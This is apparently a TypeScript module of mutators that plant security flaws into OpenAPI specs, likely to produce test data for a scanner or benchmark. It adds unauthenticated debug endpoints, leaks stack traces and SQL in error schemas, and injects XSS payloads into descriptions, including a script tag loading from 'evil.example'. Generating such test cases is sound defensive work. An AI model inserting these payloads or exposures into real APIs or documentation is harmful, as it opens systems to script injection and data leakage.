import { bodySchemas, guardedOf, isError, type JsonObject, type Mutator, objectIn } from '../api.ts';
import { addOperation, chance, insert, plantInResponse, rewriteText, some, spelled } from '../planting.ts';

export const monitoring: Readonly<Record<string, Mutator>> = {
  'exposed-debug-endpoint': (api, random) => {
    const template = random.pick([
      ...['/actuator/env', '/actuator/heapdump', '/actuator/beans', '/actuator/threaddump', '/debug/pprof/heap'],
      ...['/debug/pprof/profile', '/heapdump', '/threaddump', '/h2-console', '/jolokia', '/debug/vars', '/phpinfo.php'],
    ]);
    const prefix = random.pick(['', '', '/api', '/internal', '/v1']);
    const operation = addOperation(api, random, random.pick(['get', 'get', 'post']), prefix + template);
    if (operation === undefined) return undefined;
    if (api.root['security'] !== undefined || chance(random, 0.5)) insert(random, operation.value, 'security', []);
    else delete operation.value['security'];
    return [operation.path];
  },

  'leaking-error': (api, random) => {
    const name = random.pick([
      ...['stackTrace', 'stacktrace', 'stackTraces', 'sql', 'sqlQuery', 'sqlStatement', 'traceback', 'backtrace'],
      ...['exceptionStackTrace', 'stack', 'debugStackTrace'],
    ]);
    const schema = random.pick<JsonObject>([{ type: 'string' }, { type: 'array', items: { type: 'string' } }]);
    return plantInResponse(api, random, spelled(random, name), schema, isError);
  },

  'undocumented-invalid-input': (api, random) => {
    const operation = some(
      random,
      guardedOf(api).filter((candidate) => bodySchemas(api, candidate).length > 0),
    );
    if (operation === undefined) return undefined;
    const responses = objectIn(operation.value, 'responses');
    for (const status of Object.keys(responses)) if (isError(status)) delete responses[status];
    return [operation.path];
  },

  'unsafe-markdown': (api, random) => {
    const code = random.pick([
      ...['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '[here](javascript:alert(1))'],
      ...['<svg onload="fetch(1)">', '<SCRIPT SRC=//evil.example/a.js>'],
      ...['<a href="javascript:steal()">more</a>', '<details open ontoggle=run()>', '<img src=x onerror="run()" />'],
      ...['[a]: javascript:run()', '<div onmouseover="run()">x</div>'],
    ]);
    return rewriteText(api, random, (text) =>
      random.pick([`${text} ${code}`, `${text}\n\n${code}`, `${text}\n\n${code}\n`]),
    );
  },
};
